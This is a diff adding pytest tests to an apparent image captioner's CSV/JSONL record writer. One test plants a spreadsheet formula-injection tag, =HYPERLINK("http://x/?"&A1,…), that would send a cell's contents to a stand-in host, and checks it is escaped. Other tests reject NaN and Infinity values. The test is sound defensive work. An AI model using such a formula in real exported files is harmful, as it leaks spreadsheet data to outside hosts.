@@ -141,6 +141,18 @@ def test_tags_round_trip_in_both_formats(tmp_path, name):
         assert '"espresso:0.83; potter\'s wheel:0.1"' in path.read_text()
 
 
+def test_a_tags_cell_is_never_a_formula_and_reads_back(tmp_path):
+    path = tmp_path / "out.csv"
+    record = result_record(PathResult("/p/a.jpg", [Caption("a cup", ("a", "cup"), -0.5, 0.2)],
+                                      tags=(Tag('=HYPERLINK("http://x/?"&A1,"espresso")', 0.9), Tag("cup", 0.1))))
+    with RecordFile(path) as records:
+        records.write(record)
+    cells = list(csv.DictReader(path.open(newline="", encoding="utf-8")))[0]
+    assert cells["tags"] == '\'=HYPERLINK("http://x/?"&A1,"espresso"):0.9; cup:0.1'
+    with RecordFile(path) as records:
+        assert records.latest() == [record]
+
+
 def test_a_csv_from_before_tags_is_resumed_and_upgraded(tmp_path):
     path = tmp_path / "old.csv"
     path.write_text('"path","caption","score","min_prob","error","path_hex"\n"/p/a.jpg","a dog",-0.5,0.2,"",""\n')
@@ -173,11 +185,20 @@ def test_confidence_and_unsure_round_trip_and_a_csv_from_before_them_is_upgraded
         assert "confidence" not in latest["/p/a.jpg"] and latest["/p/a.jpg"]["tags"] == [{"label": "dog", "p": 0.5}]
 
 
-@pytest.mark.parametrize("tags", ['"espresso"', '[{"label": 3, "p": 0.5}]', '[{"label": "cup", "p": "high"}]'])
+@pytest.mark.parametrize("tags", ['"espresso"', '[{"label": 3, "p": 0.5}]', '[{"label": "cup", "p": "high"}]',
+                                  '[{"label": "cup", "p": NaN}]'])
 def test_malformed_tags_are_not_a_record(tmp_path, tags):
     path = tmp_path / "out.jsonl"
     path.write_text(f'{{"path": "/p/a.jpg", "caption": "a cup", "tags": {tags}}}\n')
     with pytest.raises(OutputError, match="not a captioner record"):
+        RecordFile(path)
+
+
+@pytest.mark.parametrize("number", ["NaN", "Infinity", "-Infinity"])
+def test_a_record_holding_a_number_json_has_not_is_not_a_record(tmp_path, number):
+    path = tmp_path / "out.jsonl"
+    path.write_text(f'{{"path": "/p/a.jpg", "caption": "a cup", "confidence": {number}}}\n')
+    with pytest.raises(OutputError, match='not a captioner record .*"confidence" is not a number'):
         RecordFile(path)
 
 
